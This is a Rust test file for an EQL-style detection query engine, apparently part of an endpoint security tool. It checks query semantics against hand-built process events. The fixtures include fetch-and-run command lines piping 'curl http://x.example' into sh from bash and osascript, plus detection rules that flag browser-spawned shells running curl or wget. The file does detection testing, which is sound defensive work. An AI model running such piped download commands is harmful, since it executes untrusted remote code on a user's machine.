//! The query language against hand-built events, table-driven. A test of
//! a missing field is null (`None`) and does not match; `and`/`or` follow
//! Kleene logic; but `not` (and `!=`, `not in`) of anything that is not
//! true is true, as in Elasticsearch, which runs a filter as Query DSL
//! (`not` is `bool.must_not`, which a document without the field matches;
//! see the README's Rules section for the source). Python `eql` keeps
//! `not null` null instead.

mod common;

use std::sync::Arc;
use vigil_dsl::event::{Category, Endpoint, EventType, File, Process};
use vigil_dsl::query::{self, CompiledQuery, EventFilter};
use vigil_dsl::Event;

const T: Option<bool> = Some(true);
const F: Option<bool> = Some(false);
const N: Option<bool> = None;

fn filter(q: &str) -> EventFilter {
    match query::compile(q) {
        Ok(CompiledQuery::Event(f)) => f,
        Ok(CompiledQuery::Sequence(_)) => panic!("{q}: a sequence"),
        Err(e) => panic!("{q}: {e} at {:?}", e.line_col(q)),
    }
}

/// A shell started by Safari that pipes curl into sh, connecting out.
fn shell() -> Event {
    let mut e = common::proc_start(1_700_000_000, "Bash");
    e.process.pid = Some(4242);
    e.process.executable = Some("/bin/bash".into());
    e.process.args = vec![
        "bash".into(),
        "-c".into(),
        "curl http://x.example | sh".into(),
    ];
    e.process.command_line = Some("bash -c 'curl http://x.example | sh'".into());
    e.process.working_directory = Some(r#"C:\dir "x""#.into());
    e.process.exit_code = Some(-1);
    e.process.code_signature.trusted = Some(false);
    e.process.code_signature.signing_id = Some("com.apple.bash".into());
    e.process.parent = Some(Arc::new(Process {
        pid: Some(1),
        name: Some("Safari".into()),
        ..Process::default()
    }));
    e.user.name = Some("Ünïcødé".into());
    e.host.os.os_type = Some("macos".into());
    e.destination = Some(Endpoint {
        ip: Some("10.1.2.3".parse().unwrap()),
        port: Some(443),
    });
    e.source = Some(Endpoint {
        ip: Some("fe80::1".parse().unwrap()),
        port: Some(5353),
    });
    e.file = Some(File::from_path("/tmp/é.sh"));
    e
}

/// The same host, but a process event that knows almost nothing.
fn bare() -> Event {
    let mut e = Event::default();
    e.event.category = Category::Process;
    e.host.id = Some("h1".into());
    e
}

fn check_table(event: &Event, rows: &[(&str, Option<bool>)]) {
    let mut failures = Vec::new();
    for (cond, expected) in rows {
        let q = format!("any where {cond}");
        let f = filter(&q);
        let got = f.condition.eval(event);
        if got != *expected {
            failures.push(format!("  {cond}\n    expected {expected:?}, got {got:?}"));
        }
        // Only `true` matches.
        assert_eq!(f.matches(event), got == Some(true), "{cond}");
    }
    assert!(
        failures.is_empty(),
        "{} rows wrong:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn equality_is_case_sensitive_and_colon_is_not() {
    check_table(
        &shell(),
        &[
            (r#"process.name == "Bash""#, T),
            (r#"process.name == "bash""#, F),
            (r#"process.name != "bash""#, T),
            (r#"process.name != "Bash""#, F),
            (r#""Bash" == process.name"#, T),
            (r#"process.name : "bash""#, T),
            (r#"process.name : "BASH""#, T),
            (r#"process.name : "ba*""#, T),
            (r#"process.name : "*SH""#, T),
            (r#"process.name : "b?sh""#, T),
            (r#"process.name : "b?h""#, F),
            (r#"process.name : "*a*""#, T),
            (r#"process.name : "zsh""#, F),
            (r#"process.name : ("zsh", "dash", "BASH")"#, T),
            (r#"process.name : ("zsh", "dash")"#, F),
            (r#"process.name : ("zsh", "b*")"#, T),
            (r#"process.executable : "/bin/*""#, T),
            (r#"process.executable : "/usr/*""#, F),
            (r#"user.name : "ÜNÏCØDÉ""#, T),
            (r#"user.name : "üNï*""#, T),
            (r#"user.name : "uni*""#, F),
            (r#"user.name == "ünïcødé""#, F),
            (r#"file.name : "É.SH""#, T),
        ],
    );
}

#[test]
fn like_in_and_regex_with_their_case_rules() {
    check_table(
        &shell(),
        &[
            (r#"process.name like "Ba*""#, T),
            (r#"process.name like "ba*""#, F),
            (r#"process.name like~ "ba*""#, T),
            (r#"process.name like ("zsh", "B?sh")"#, T),
            (r#"process.name like~ "BASH""#, T),
            (r#"process.name like "BASH""#, F),
            (r#"process.name in ("Bash", "zsh")"#, T),
            (r#"process.name in ("bash", "zsh")"#, F),
            (r#"process.name in~ ("bash", "zsh")"#, T),
            (r#"process.name in ("Ba*")"#, F),
            (r#"process.name not in ("zsh", "sh")"#, T),
            (r#"process.name not in ("zsh", "Bash")"#, F),
            (r#"process.name not in~ ("BASH")"#, F),
            (r#"process.pid in (1, 4242)"#, T),
            (r#"process.pid in (1, 2)"#, F),
            (r#"process.pid not in (1, 2)"#, T),
            (r#"destination.port in (80, 443)"#, T),
            (r#"destination.ip in ("10.1.2.3", "::1")"#, T),
            (r#"destination.ip in ("10.1.2.4")"#, F),
            // Regexes match the whole value, like Elasticsearch.
            (r#"process.name regex "B.sh""#, T),
            (r#"process.name regex "as""#, F),
            (r#"process.name regex ".*as.*""#, T),
            (r#"process.name regex "ba.*""#, F),
            (r#"process.name regex~ "ba.*""#, T),
            (r#"process.name regex ("zsh", "[A-Z]ash")"#, T),
            (r#"process.name regex "Bash|zsh""#, T),
            (r#"process.name regex "x|Bas""#, F),
            (r#"process.command_line regex ".*curl.*""#, T),
        ],
    );
}

#[test]
fn missing_fields_are_null_and_null_propagates_like_elasticsearch() {
    check_table(
        &bare(),
        &[
            (r#"process.name == "x""#, N),
            (r#"process.name != "x""#, T),
            // Elasticsearch's `must_not`: a missing field matches `not`
            // (python eql's three-valued `not null` would be null).
            (r#"not process.name == "x""#, T),
            (r#"not not process.name == "x""#, F),
            (r#"process.name == null"#, T),
            (r#"process.name != null"#, F),
            (r#"null == process.name"#, T),
            (r#"process.name : "*""#, N),
            (r#"process.name like~ "*""#, N),
            (r#"process.name in ("x")"#, N),
            (r#"process.name not in ("x")"#, T),
            (r#"process.name regex ".*""#, N),
            (r#"process.pid > 0"#, N),
            (r#"process.pid == null"#, T),
            (r#"process.args : "*""#, N),
            (r#"length(process.args) == 0"#, N),
            (r#"process.parent.name == "x""#, N),
            (r#"process.parent.name == null"#, T),
            (r#"destination.ip == "10.0.0.1""#, N),
            (r#"cidrmatch(destination.ip, "0.0.0.0/0")"#, N),
            (r#"not cidrmatch(destination.ip, "10.0.0.0/8")"#, T),
            (r#"process.code_signature.trusted"#, N),
            (r#"not process.code_signature.trusted"#, T),
            (r#"event.type == "start""#, N),
            (r#"not event.type == "start""#, T),
            (r#"startswith~(process.name, "x")"#, N),
            // Kleene logic: false dominates `and`, true dominates `or`.
            (r#"process.name == "x" and false"#, F),
            (r#"false and process.name == "x""#, F),
            (r#"process.name == "x" and true"#, N),
            (r#"process.name == "x" or true"#, T),
            (r#"process.name == "x" or false"#, N),
            (r#"not (process.name == "x" or true)"#, F),
            (r#"not (process.name == "x" and false)"#, T),
            (r#"process.name == "x" or process.name == null"#, T),
            // `?field` unknown to the schema: always null.
            (r#"?unknown.field == null"#, T),
            (r#"?unknown.field != null"#, F),
            (r#"?unknown.field == "x""#, N),
            (r#"?unknown.field != "x""#, T),
            (r#"not ?unknown.field == "x""#, T),
            (r#"?unknown.field : "x*""#, N),
            (r#"?unknown.field in ("x")"#, N),
            (r#"?unknown.field > 5"#, N),
            (r#"?x.y == "a" or ?x.z == null"#, T),
            // `?` on a known field is just that field.
            (r#"?process.name == null"#, T),
            (r#"?host.id == "h1""#, T),
        ],
    );
}

#[test]
fn missing_fields_on_a_full_event_behave_the_same() {
    // The same null rules hold when other fields are present.
    let mut e = shell();
    e.process.name = None;
    check_table(
        &e,
        &[
            (r#"not process.name == "Bash""#, T),
            (r#"process.pid == 4242 and not process.name == "x""#, T),
            (r#"process.pid == 4242 or not process.name == "x""#, T),
            (r#"process.pid == 1 and not process.name == "x""#, F),
        ],
    );
}

#[test]
fn lists_match_if_any_element_matches() {
    check_table(
        &shell(),
        &[
            (r#"process.args : "*-c*""#, T),
            (r#"process.args : "-C""#, T),
            (r#"process.args == "-c""#, T),
            (r#"process.args == "-C""#, F),
            (r#"process.args : "*wget*""#, F),
            (r#"process.args : ("*wget*", "*curl*")"#, T),
            (r#"process.args in ("sh", "bash")"#, T),
            (r#"process.args like "bash""#, T),
            (r#"process.args regex "curl.*""#, T),
            (r#"process.args regex "curl""#, F),
            (r#"length(process.args) > 2"#, T),
            (r#"length(process.args) == 3"#, T),
            (r#"length(process.args) > 3"#, F),
            (r#"length(process.name) == 4"#, T),
            (r#"length(user.name) == 7"#, T),
            (r#"process.args_count == 3"#, T),
            (r#"stringcontains(process.args, "x.example")"#, T),
        ],
    );
}

#[test]
fn cidrmatch_covers_v4_v6_and_bare_addresses() {
    check_table(
        &shell(),
        &[
            (r#"cidrmatch(destination.ip, "10.0.0.0/8")"#, T),
            (r#"cidrmatch(destination.ip, "10.1.2.0/24")"#, T),
            (r#"cidrmatch(destination.ip, "10.1.3.0/24")"#, F),
            (
                r#"cidrmatch(destination.ip, "192.168.0.0/16", "172.16.0.0/12")"#,
                F,
            ),
            (
                r#"cidrmatch(destination.ip, "192.168.0.0/16", "10.0.0.0/8")"#,
                T,
            ),
            (r#"cidrmatch(destination.ip, "10.1.2.3")"#, T),
            (r#"cidrmatch(destination.ip, "10.1.2.4")"#, F),
            (r#"cidrmatch(destination.ip, "10.1.2.3/32")"#, T),
            (r#"cidrmatch(destination.ip, "0.0.0.0/0")"#, T),
            (r#"cidrmatch(destination.ip, "::/0")"#, F),
            (r#"not cidrmatch(destination.ip, "127.0.0.0/8", "::1")"#, T),
            (r#"cidrmatch(source.ip, "fe80::/10")"#, T),
            (r#"cidrmatch(source.ip, "FE80::/10")"#, T),
            (r#"cidrmatch(source.ip, "fe80::1")"#, T),
            (r#"cidrmatch(source.ip, "fe80::2")"#, F),
            (r#"cidrmatch(source.ip, "ff00::/8")"#, F),
            (r#"cidrmatch(source.ip, "0.0.0.0/0")"#, F),
            (r#"cidrMatch(source.ip, "::/0")"#, T),
            (r#"destination.ip == "10.1.2.3""#, T),
            (r#"destination.ip != "10.1.2.3""#, F),
            (r#"source.ip == "FE80::1""#, T),
        ],
    );
    // IPv4-mapped IPv6 addresses count as IPv4.
    let mut mapped = shell();
    mapped.destination.as_mut().unwrap().ip = Some("::ffff:10.9.9.9".parse().unwrap());
    check_table(
        &mapped,
        &[
            (r#"cidrmatch(destination.ip, "10.0.0.0/8")"#, T),
            (r#"cidrmatch(destination.ip, "11.0.0.0/8")"#, F),
        ],
    );
}

#[test]
fn string_functions_and_their_case_rules() {
    check_table(
        &shell(),
        &[
            (r#"startswith~(process.name, "ba")"#, T),
            (r#"startswith(process.name, "ba")"#, F),
            (r#"startsWith(process.name, "Ba")"#, T),
            (r#"startsWith(process.name, "x", "B")"#, T),
            (r#"startswith~(process.executable, "/BIN/")"#, T),
            (r#"endswith~(process.executable, "/BASH")"#, T),
            (r#"endswith(process.executable, "/BASH")"#, F),
            (r#"endsWith(process.executable, "/bash")"#, T),
            (r#"stringcontains~(process.command_line, "CURL")"#, T),
            (r#"stringcontains(process.command_line, "CURL")"#, F),
            (r#"stringContains(process.command_line, "curl")"#, T),
            (r#"stringcontains(process.command_line, "*")"#, F),
            (r#"startswith~(user.name, "üNÏ")"#, T),
            (r#"wildcard(process.name, "b*", "z*")"#, T),
            (r#"startswith(process.name, "Ba") == true"#, T),
            (r#"startswith(process.name, "Ba") == false"#, F),
            (r#"startswith(process.name, "Ba") != true"#, F),
        ],
    );
}

#[test]
fn event_type_category_booleans_and_integers() {
    check_table(
        &shell(),
        &[
            (r#"event.type == "start""#, T),
            (r#"event.type == "end""#, F),
            (r#"event.type != "end""#, T),
            (r#"event.type in ("end", "start")"#, T),
            (r#"event.type : "ST*""#, T),
            (r#"event.category == "process""#, T),
            (r#"event.category == "network""#, F),
            (r#"event.category in ("file", "process")"#, T),
            (r#"event.category : "PROC*""#, T),
            (r#"process.code_signature.trusted == false"#, T),
            (r#"process.code_signature.trusted"#, F),
            (r#"not process.code_signature.trusted"#, T),
            (r#"process.code_signature.exists"#, T),
            (r#"process.pid == 4242"#, T),
            (r#"process.pid != 4242"#, F),
            (r#"process.pid > 4000"#, T),
            (r#"process.pid < 4242"#, F),
            (r#"process.pid <= 4242"#, T),
            (r#"process.pid >= 4243"#, F),
            (r#"4000 < process.pid"#, T),
            (r#"5000 <= process.pid"#, F),
            (r#"process.parent.pid == 1"#, T),
            (r#"process.exit_code == -1"#, T),
            (r#"process.exit_code < 0"#, T),
            (r#"destination.port == 443"#, T),
            (r#"destination.port > 1024"#, F),
            (r#"source.port >= 5353"#, T),
            (r#"@timestamp > 0"#, T),
            (r#"process.name == process.name"#, T),
            (r#"process.name != process.parent.name"#, T),
            (r#"process.name < "C""#, T),
            (r#"process.name > "C""#, F),
            (r#"true"#, T),
            (r#"false"#, F),
            (r#"1 == 1"#, T),
            (r#""a" == "b""#, F),
        ],
    );
    let mut multi = shell();
    multi.event.types = vec![EventType::Info, EventType::Start];
    check_table(
        &multi,
        &[
            (r#"event.type == "start""#, T),
            (r#"event.type == "info""#, T),
            (r#"length(event.type) == 2"#, T),
        ],
    );
}

#[test]
fn precedence_grouping_comments_and_escapes() {
    check_table(
        &shell(),
        &[
            // `and` binds tighter than `or`; `not` tighter than `and`.
            (
                r#"process.name == "Bash" or process.name == "x" and false"#,
                T,
            ),
            (
                r#"(process.name == "Bash" or process.name == "x") and false"#,
                F,
            ),
            (r#"not process.name == "x" and process.pid == 4242"#, T),
            (r#"not (process.name == "Bash" and process.pid == 1)"#, T),
            (r#"not not process.name == "Bash""#, T),
            (r#"((((process.name == "Bash"))))"#, T),
            // Comments.
            ("/* lead */ process.name == \"Bash\" // trailing", T),
            ("process.name /* in the middle */ == \"Bash\"", T),
            ("process.name == \"Bash\"\n// and false\n", T),
            ("process.name == \"x\" /* or true */", F),
            // Escapes and quoting.
            (r#"process.working_directory == "C:\\dir \"x\"""#, T),
            (r#"process.working_directory == 'C:\\dir "x"'"#, T),
            // Raw strings keep backslashes; the first `"""` closes them.
            (r#"process.working_directory : """C:\dir*""""#, T),
            (r#"process.working_directory : """C:\\dir*""""#, F),
            (r#"process.working_directory : """C:\dir "x*""""#, T),
            (r#"user.name == "\u00dcn\u00efc\u00f8d\u00e9""#, T),
            (r#"user.name == "Ünïcødé""#, T),
            (
                r#"process.command_line : "*'curl http://x.example | sh'""#,
                T,
            ),
            (r#"process.args : "curl http:\/\/x.example | sh""#, T),
            // Newlines and tabs between tokens.
            ("process.name\n\t==\r\n\"Bash\"", T),
        ],
    );
}

#[test]
fn event_categories_select_before_the_condition() {
    let e = shell();
    assert!(filter(r#"process where process.name == "Bash""#).matches(&e));
    assert!(filter(r#"any where process.name == "Bash""#).matches(&e));
    assert!(filter(r#"any where true"#).matches(&bare()));
    assert!(!filter(r#"network where process.name == "Bash""#).matches(&e));
    assert!(!filter(r#"file where true"#).matches(&e));
    assert_eq!(
        filter(r#"process where true"#).category,
        Some(Category::Process)
    );
    assert_eq!(filter(r#"any where true"#).category, None);
    // ECS's `intrusion_detection` is vigil's malware category.
    assert_eq!(
        filter(r#"intrusion_detection where true"#).category,
        Some(Category::Malware)
    );
    let mut net = shell();
    net.event.category = Category::Network;
    assert!(filter(r#"network where destination.port == 443"#).matches(&net));
    assert!(!filter(r#"process where destination.port == 443"#).matches(&net));
}

#[test]
fn shipped_style_queries_on_a_hand_built_event() {
    let e = shell();
    for (q, want) in [
        (
            r#"process where event.type == "start" and process.parent.name : ("Safari", "Google Chrome") and process.name : ("bash", "zsh")"#,
            true,
        ),
        (
            r#"process where event.type == "start" and process.parent.name : ("Safari") and not process.name : ("bash", "zsh")"#,
            false,
        ),
        (
            r#"any where not cidrmatch(destination.ip, "10.0.0.0/8", "127.0.0.0/8", "::1", "FE80::/10")"#,
            false,
        ),
        (
            r#"process where process.command_line : ("*curl *", "*wget *") and host.os.type == "macos""#,
            true,
        ),
    ] {
        assert_eq!(filter(q).matches(&e), want, "{q}");
    }
}

/// Elastic's rules name fields and values vigil's events never carry
/// (`process.Ext.effective_parent.name`, `event.type == "process_started"`,
/// `persistence where ...`): they compile, the fields read as null like a
/// `?field`, the values and categories match nothing.
#[test]
fn what_vigil_never_records_reads_as_missing_or_matches_nothing() {
    check_table(
        &shell(),
        &[
            (r#"process.Ext.effective_parent.name == "launchd""#, N),
            (r#"process.Ext.effective_parent.name == null"#, T),
            (
                r#"process.Ext.effective_parent.name == null and process.name : "bash""#,
                T,
            ),
            (
                r#"process.Ext.effective_parent.name : "x*" or process.name : "bash""#,
                T,
            ),
            (r#"event.type == "process_started""#, F),
            (r#"event.type != "process_started""#, T),
            (r#"event.type in ("start", "process_started")"#, T),
            (r#"event.type in ("process_started", "exec_event")"#, F),
            (r#"event.category == "persistence""#, F),
            (r#"event.category in ("process", "persistence")"#, T),
        ],
    );
    let f = filter(r#"persistence where process.name : "bash""#);
    assert!(!f.matches(&shell()));
}

/// Functions with a field as their second argument (Elastic Defend's
/// `startswith~(file.path, process.executable)`) and numbers against
/// keywords (`user.id == 0`), with a near miss each.
#[test]
fn fields_as_function_arguments_and_numbers_against_keywords() {
    let mut e = shell();
    e.file = Some(File::from_path("/bin/bash.tmp"));
    e.user.id = Some("0".into());
    check_table(
        &e,
        &[
            (r#"startswith(file.path, process.executable)"#, T),
            (r#"startswith~(file.path, process.executable)"#, T),
            (r#"startswith(process.executable, file.path)"#, F),
            (r#"endswith(file.path, process.executable)"#, F),
            (r#"stringcontains(file.path, process.executable)"#, T),
            // The parent's executable is missing: `not` of null holds.
            (
                r#"not startswith~(process.executable, process.parent.executable)"#,
                T,
            ),
            (
                r#"startswith~(file.path, process.Ext.effective_parent.executable)"#,
                N,
            ),
            (r#"user.id == 0"#, T),
            (r#"user.id != 0"#, F),
            (r#"user.id == 501"#, F),
        ],
    );
    // Case: only the `~` form ignores it.
    e.file = Some(File::from_path("/BIN/BASH.tmp"));
    check_table(
        &e,
        &[
            (r#"startswith(file.path, process.executable)"#, F),
            (r#"startswith~(file.path, process.executable)"#, T),
        ],
    );
}

/// Lucene's `.` is any character, a newline too: a multi-line
/// `osascript -e` script is one value a regex walks across.
#[test]
fn regex_dot_matches_a_newline_as_in_lucene() {
    let mut e = shell();
    e.process.command_line = Some("osascript -e 'do shell script\n\"curl x | sh\"'".into());
    check_table(
        &e,
        &[
            (r#"process.command_line regex "osascript -e .*curl.*""#, T),
            (
                r#"process.command_line regex "osascript -e [^\n]*curl.*""#,
                F,
            ),
            (r#"process.command_line regex~ "OSASCRIPT .*SH.*""#, T),
        ],
    );
}
